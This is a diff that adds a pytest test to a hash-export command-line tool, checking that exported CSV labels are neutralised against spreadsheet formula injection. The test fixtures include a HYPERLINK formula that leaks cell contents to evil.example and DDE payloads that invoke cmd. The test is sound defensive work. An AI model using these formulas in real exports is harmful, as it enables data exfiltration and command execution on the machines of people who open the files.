@@ -80,3 +80,23 @@ def test_errors(case, tmp_path):
 def test_cli(case, capsys):
     assert main(["hashes", "export", "--case", str(case.path), "--format", "hma"]) == 0
     assert "2 files" in capsys.readouterr().out
+
+
+@pytest.mark.parametrize("fmt, column", [pytest.param("csv", "label", id="csv"),
+                                         pytest.param("stopncii-style", "label", id="stopncii-style")])
+@pytest.mark.parametrize("label", [
+    pytest.param('=HYPERLINK("http://evil.example/?"&A1,"click")', id="hyperlink"),
+    pytest.param("+cmd|' /C calc'!A0", id="dde-plus"),
+    pytest.param("@SUM(1+1)*cmd|' /C calc'!A0", id="at"),
+    pytest.param("-2+3", id="minus"),
+    pytest.param("\t=1+1", id="tab"),
+    pytest.param("  =1+1", id="leading-spaces"),
+])
+def test_cli_label_is_no_live_formula(case, tmp_path, fmt, column, label):
+    out = tmp_path / f"h.{fmt}.csv"
+    assert main(["hashes", "export", "--case", str(case.path), "--format", fmt, "--out", str(out),
+                 f"--label={label}"]) == 0
+    rows = list(csv.DictReader(io.StringIO(out.read_text(encoding="utf-8"))))
+    assert rows and all(r[column].startswith("'") and label in r[column] for r in rows)
+    cells = [c for r in rows for c in r.values() if isinstance(c, str)]
+    assert not [c for c in cells if c.lstrip(" ")[:1] in ("=", "+", "-", "@", "\t", "\r")]
